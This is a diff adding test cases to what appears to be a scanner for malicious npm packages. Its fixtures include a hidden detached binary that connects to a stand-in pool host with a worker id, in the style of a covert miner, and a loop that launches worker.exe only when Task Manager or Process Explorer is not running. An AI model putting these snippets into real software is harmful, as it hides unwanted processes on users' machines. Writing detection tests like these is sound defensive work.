@@ -278,3 +278,36 @@ eth.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0]
     expect(threatsOf(r)).toContain('malicious_code');
   });
 });
+
+describe('processes that hide: detached with a remote endpoint, paused while watched', () => {
+  it('a shipped binary started silently on load, told to connect to a host from a config module', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const { spawn } = require('child_process'); const cfg = require('./lib/cfg');
+spawn(require('path').join(__dirname, 'bin', 'img-helper'), ['--url', cfg.host + ':' + cfg.port, '--user', cfg.id],
+  { detached: true, stdio: 'ignore', windowsHide: true }).unref();
+module.exports = (x) => x;`,
+      'lib/cfg.js': `module.exports = { host: 'pool.relay-mirror.example', port: 5555, id: 'wk1' };`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('a local dev server started detached on a loopback address is not hiding anything', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `module.exports = () => require('child_process').spawn(process.execPath, ['server.js', '--listen', '127.0.0.1:8080'], { detached: true, stdio: 'ignore' }).unref();`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it('the process list checked for a task manager before carrying on', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const cp = require('child_process');
+const seen = () => /Task ?Manager|procexp/i.test(cp.execSync('tasklist').toString());
+setInterval(() => { if (!seen()) cp.spawn('worker.exe', [], { detached: true }); }, 60000);`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+});
